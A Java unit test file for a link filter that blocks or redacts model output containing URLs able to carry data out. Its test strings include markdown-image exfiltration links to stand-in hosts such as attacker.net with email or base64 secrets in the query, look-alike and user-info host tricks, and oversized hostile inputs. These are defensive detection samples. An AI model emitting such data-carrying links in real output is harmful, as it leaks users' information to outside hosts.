package dev.guard4j.filters.output;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.guard4j.Content;
import dev.guard4j.Finding;
import dev.guard4j.Verdict;
import dev.guard4j.filters.policy.GuardPolicy;
import dev.guard4j.filters.policy.PolicyException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class LinkFilterTest {

    private final LinkFilter exfiltration = LinkFilter.ofDefaults();
    private final LinkFilter listed = LinkFilter.builder().allow("acme.com", "docs.example.org").deny("evil.acme.com").build();

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            markdown image with data in the query  | See ![chart](https://attacker.net/p.png?d=alice%40corp.com) now   | 4  | 59 | LINK_EXFILTRATION
            markdown image with any query          | ![a](https://cdn.example.net/x.gif?q=1)                            | 0  | 39 | LINK_EXFILTRATION
            image with base64 in the path          | ![x](https://a.net/c/U2VjcmV0IGRhdGE6IGtleT1hYmMxMjM0NTY3OA/i.png) | 0  | 66 | LINK_EXFILTRATION
            HTML image with a query                | <img src="https://x.io/t.png?s=1" alt=""> done                     | 0  | 41 | LINK_EXFILTRATION
            link with a long query value           | [click](https://x.io/r?v=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) | 8 | 75 | LINK_EXFILTRATION
            bare URL with base64 query value       | go to https://t.co/x?d=U2VjcmV0OnBhc3N3b3JkMTIz now                | 6  | 47 | LINK_EXFILTRATION
            bare URL with percent-encoded value    | https://t.co/?q=%73%65%63%72%65%74 ok                              | 0  | 34 | LINK_EXFILTRATION
            reference-style image with a query     | ![logo][l] hi\\n[l]: https://x.io/i.png?u=42                       | 14 | 42 | LINK_EXFILTRATION
            """)
    void flagsLinksThatCanCarryDataOut(String description, String raw, int start, int end, String category) {
        String text = raw.replace("\\n", "\n");
        Verdict verdict = exfiltration.check(Content.of(text, Content.Source.MODEL));

        assertThat(verdict).isInstanceOf(Verdict.Block.class);
        assertThat(verdict.findings()).extracting(Finding::category, Finding::start, Finding::end)
                .containsExactly(org.assertj.core.groups.Tuple.tuple(category, start, end));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            plain link                         | Read [the docs](https://docs.python.org/3/library/re.html).
            link with a short query            | Search https://www.google.com/search?q=java+records for more.
            image without a query              | ![logo](https://example.com/logo.png)
            slug in the path                   | https://blog.example.com/2024/05/how-to-write-linear-time-regular-expressions
            commit hash in a link path         | https://github.com/org/repo/commit/3f786850e387550fdab836ed7e6dc881de23001b
            no URL at all                      | Visit our office at 12 Main Street; ask for Bob.
            reference link used by a link only | See [docs][d].\\n[d]: https://x.io/p?q=1
            empty                              | ''
            """)
    void passesOrdinaryLinks(String description, String text) {
        assertThat(exfiltration.check(Content.of(text.replace("\\n", "\n"), Content.Source.MODEL))).isEqualTo(Verdict.pass());
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            allowed domain                 | https://acme.com/pricing                   | PASS
            allowed subdomain              | https://shop.acme.com/cart                 | PASS
            allowed image with a query     | ![c](https://acme.com/c.png?w=200)         | PASS
            other domain                   | https://acme.com.evil.io/login             | DENIED_LINK
            look-alike suffix              | https://notacme.com/                       | DENIED_LINK
            user-info trick                | https://acme.com@evil.io/                  | DENIED_LINK
            denied subdomain of allowed    | https://evil.acme.com/x                    | DENIED_LINK
            upper case and trailing dot    | HTTPS://WWW.ACME.COM./home                 | PASS
            port                           | https://docs.example.org:8443/a            | PASS
            www without scheme             | see www.other.net/page                     | DENIED_LINK
            """)
    void appliesAllowAndDenyListsToHosts(String description, String text, String expected) {
        Verdict verdict = listed.check(Content.of(text, Content.Source.MODEL));

        if (expected.equals("PASS")) {
            assertThat(verdict).isEqualTo(Verdict.pass());
        } else {
            assertThat(verdict.findings()).extracting(Finding::category).containsExactly(expected);
        }
    }

    @Test
    void redactRemovesTheWholeImageAndKeepsTheProse() {
        LinkFilter redacting = LinkFilter.builder().action(LinkFilter.Action.REDACT).build();
        String text = "Here is your chart ![c](https://x.io/p.png?d=secret) and https://ok.example/docs for reading.";

        Verdict verdict = redacting.check(Content.of(text, Content.Source.MODEL));

        assertThat(verdict).isInstanceOf(Verdict.Rewrite.class);
        assertThat(((Verdict.Rewrite) verdict).text())
                .isEqualTo("Here is your chart [link removed] and https://ok.example/docs for reading.");
    }

    @Test
    void hostileInputGetsAVerdictQuickly() {
        String manyBrackets = "![".repeat(200_000) + "](https://x.io/a.png?q=1)";
        String longUrl = "https://x.io/" + "a".repeat(2_000_000);
        String binary = "\u0000\uD800https://\uDFFF";

        assertThat(exfiltration.check(Content.of(manyBrackets, Content.Source.MODEL))).isInstanceOf(Verdict.Block.class);
        assertThat(exfiltration.check(Content.of(longUrl, Content.Source.MODEL))).isNotNull();
        assertThat(exfiltration.check(Content.of(binary, Content.Source.MODEL))).isNotNull();
    }

    @Test
    void badDomainsFailAtBuildTime() {
        assertThatThrownBy(() -> LinkFilter.builder().allow("https://acme.com/")).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("host name");
        assertThatThrownBy(() -> GuardPolicy.createFilter(new LinkFilterFactory(), "deny-domains: [' ']"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("deny-domains");
    }

    @Test
    void factoryReadsListsAndAction() {
        Object made = GuardPolicy.createFilter(new LinkFilterFactory(), "allow-domains: [acme.com]\naction: redact");

        Verdict verdict = ((LinkFilter) made).check(Content.of("see https://other.io/x", Content.Source.MODEL));

        assertThat(verdict).isInstanceOf(Verdict.Rewrite.class);
        assertThat(((Verdict.Rewrite) verdict).text()).isEqualTo("see [link removed]");
    }
}
